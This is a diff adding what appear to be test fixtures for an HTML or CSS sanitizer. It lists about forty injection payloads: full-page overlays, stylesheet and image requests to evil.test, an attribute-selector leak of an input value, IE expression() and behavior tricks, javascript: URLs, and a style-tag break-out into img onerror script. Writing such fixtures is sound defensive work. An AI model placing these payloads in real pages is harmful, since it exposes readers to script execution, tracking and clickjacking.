@@ -1,0 +1,131 @@
+/** Style that runs code, tells on the reader, or covers and repaints the page around it. */
+export default [
+  {
+    id: 'overlay',
+    markup: '<p style="position:fixed;inset:0;z-index:99999;background:#fff">The council met on Monday to vote.</p>',
+    fires: 'cover',
+  },
+  {
+    id: 'overlay-link',
+    markup: '<a href="https://evil.test/" style="position:fixed;top:0;left:0;width:100vw;height:100vh">The plan</a>',
+    fires: 'cover',
+  },
+  {
+    id: 'overlay-absolute',
+    markup: '<div style="position:absolute;top:-99px;left:0;width:9999px;height:9999px;margin:0">The council met on Monday.</div>',
+    fires: 'cover',
+  },
+  {
+    id: 'overlay-class',
+    markup: '<style>.x{position:fixed;inset:0}</style><p class=x>The council met on Monday to vote.</p>',
+    fires: 'cover',
+  },
+  {
+    id: 'overlay-dialog',
+    markup: '<style>dialog{inset:0!important;width:100%;height:100%}</style><dialog open style="position:fixed">The council met.</dialog>',
+    fires: 'cover',
+  },
+  { id: 'style-hides-page', markup: '<style>#reader-menu{display:none!important}</style>', fires: 'cover' },
+  { id: 'style-repaints', markup: '<style>*{pointer-events:none!important}</style>', fires: 'cover' },
+  { id: 'style-import', markup: '<style>@import "https://evil.test/x.css";</style>', fires: 'request' },
+  { id: 'style-import-url', markup: '<style>@import url(//evil.test/x.css);</style>', fires: 'request' },
+  { id: 'style-background', markup: '<p style="background:url(https://evil.test/b.png)">The council met on Monday.</p>', fires: 'request' },
+  {
+    id: 'style-background-escape',
+    markup: '<p style="background:\\75rl(https://evil.test/b.png)">The council met on Monday.</p>',
+    fires: 'request',
+  },
+  {
+    id: 'style-background-entities',
+    markup: '<p style="background&colon;url&lpar;https://evil.test/b.png&rpar;">The council met on Monday.</p>',
+    fires: 'request',
+  },
+  {
+    id: 'style-image-set',
+    markup: '<p style="background:image-set(\'https://evil.test/b.png\' 1x)">The council met on Monday.</p>',
+    fires: 'request',
+  },
+  {
+    id: 'style-list-image',
+    markup: '<ul><li style="list-style:url(https://evil.test/b.png)">The council met on Monday.</ul>',
+    fires: 'request',
+  },
+  {
+    id: 'style-border-image',
+    markup: '<p style="border:9px solid;border-image:url(https://evil.test/b.png) 9">The council met.</p>',
+    fires: 'request',
+  },
+  { id: 'style-content', markup: '<style>p::after{content:url(https://evil.test/b.png)}</style>', fires: 'request' },
+  {
+    id: 'style-font-face',
+    markup: '<style>@font-face{font-family:q;src:url(https://evil.test/f.woff)}p{font-family:q}</style>',
+    fires: 'request',
+  },
+  {
+    id: 'style-cursor',
+    markup: '<p id=do style="cursor:url(https://evil.test/c.cur),auto">The council met.</p>',
+    fires: 'request',
+    steps: ['hover'],
+  },
+  {
+    id: 'style-attribute-leak',
+    markup: '<style>input[value^="s"]{background:url(https://evil.test/s.png)}</style><input value=secret>',
+    fires: 'request',
+  },
+  { id: 'style-mask', markup: '<p style="mask:url(https://evil.test/m.svg#m)">The council met.</p>', fires: 'request' },
+  {
+    id: 'style-filter',
+    markup: '<p style="filter:url(https://evil.test/m.svg#m)">The council met.</p>',
+    elsewhere: 'browsers that load filters of other origins',
+  },
+  { id: 'style-var', markup: '<p style="--u:url(https://evil.test/v.png);background:var(--u)">The council met.</p>', fires: 'request' },
+  { id: 'style-expression', markup: '<p style="width:expression(hit())">The council met.</p>', elsewhere: 'Internet Explorer 7' },
+  {
+    id: 'style-expression-comment',
+    markup: '<p style="xss:expr/*x*/ession(hit())">The council met.</p>',
+    elsewhere: 'Internet Explorer 7',
+  },
+  { id: 'style-expression-escape', markup: '<p style="width:\\65xpression(hit())">The council met.</p>', elsewhere: 'Internet Explorer 7' },
+  {
+    id: 'style-expression-full-width',
+    markup: '<p style="width:\uff45xpression(hit())">The council met.</p>',
+    elsewhere: 'Internet Explorer 6',
+  },
+  {
+    id: 'style-behavior',
+    markup: '<p style="behavior:url(https://evil.test/x.htc)">The council met.</p>',
+    elsewhere: 'Internet Explorer 9',
+  },
+  {
+    id: 'style-moz-binding',
+    markup: '<p style="-moz-binding:url(https://evil.test/x.xml#x)">The council met.</p>',
+    elsewhere: 'Firefox 2',
+  },
+  { id: 'style-o-link', markup: '<p style="-o-link:\'javascript:hit()\';-o-link-source:current">The council met.</p>', elsewhere: 'Opera' },
+  {
+    id: 'style-javascript-url',
+    markup: '<p style="background:url(javascript:hit())">The council met.</p>',
+    elsewhere: 'Internet Explorer 6',
+  },
+  { id: 'style-import-javascript', markup: "<style>@import 'javascript:hit()';</style>", elsewhere: 'Internet Explorer 6' },
+  {
+    id: 'style-list-javascript',
+    markup: '<style>li{list-style-image:url("javascript:hit()")}</style><ul><li>The council met.</ul>',
+    elsewhere: 'Internet Explorer 6',
+  },
+  {
+    id: 'style-progid',
+    markup: '<p style="filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=\'javascript:hit()\')">The council met.</p>',
+    elsewhere: 'Internet Explorer',
+  },
+  { id: 'style-broken-comment', markup: '<style></style ><!-- ><img src=x onerror=hit()> -->', elsewhere: 'filters that end style early' },
+  { id: 'style-closes-early', markup: '<style><img src="</style><img src=x onerror=hit()>"></style>', fires: 'script' },
+  { id: 'style-type', markup: '<style type=text/javascript>hit()</style>', elsewhere: 'Netscape 4' },
+  { id: 'layer', markup: '<layer src="https://evil.test/x.html"></layer>', elsewhere: 'Netscape 4' },
+  {
+    id: 'meta-link-header',
+    markup: '<meta http-equiv=Link content="<https://evil.test/x.css>; rel=stylesheet">',
+    elsewhere: 'old Firefox',
+  },
+  { id: 'font-size-hides', markup: '<p><font style="font-size:0">The council met.</font></p>', elsewhere: 'a reader who is misled' },
+];
